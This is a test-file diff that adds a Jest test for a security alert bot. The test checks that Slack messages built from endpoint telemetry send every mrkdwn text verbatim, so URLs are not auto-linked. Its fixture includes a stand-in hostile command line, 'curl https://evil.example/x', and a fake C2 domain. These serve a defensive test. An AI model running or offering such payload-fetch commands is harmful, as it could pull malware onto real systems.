@@ -290,3 +290,25 @@ describe('the verdict message', () => {
     expect(sectionTexts(message)).toContain('… and 295 more in the thread');
   });
 });
+
+describe('telemetry never becomes a link Slack made up', () => {
+  /** Every mrkdwn text object of a message, however deep. */
+  function mrkdwnObjects(value: unknown): Record<string, unknown>[] {
+    if (Array.isArray(value)) return value.flatMap(mrkdwnObjects);
+    if (value === null || typeof value !== 'object') return [];
+    const object = value as Record<string, unknown>;
+    return [...(object.type === 'mrkdwn' ? [object] : []), ...Object.values(object).flatMap(mrkdwnObjects)];
+  }
+
+  it('sends every mrkdwn text of every message verbatim, so a URL or domain in a command line is not auto-linked', () => {
+    const hostile = finding({
+      process: { name: 'www.evil-c2.example', path: 'C:\\Temp\\https://evil.example/payload', cmd_line: 'curl https://evil.example/x #general www.evil-c2.example' },
+    });
+    const closed = view({ state: 'closed', verdict: 'breached', verdict_reasons: ['www.evil-c2.example answered'] });
+    const messages = [statusMessage(view(), { now: NOW }), statusMessage(closed, { now: NOW }), findingMessage(view(), hostile, { now: NOW }), verdictMessage(closed, [hostile], { now: NOW })];
+
+    const texts = messages.flatMap((message) => mrkdwnObjects(message.blocks));
+    expect(texts.length).toBeGreaterThan(10);
+    expect(texts.filter((text) => text.verbatim !== true)).toEqual([]);
+  });
+});
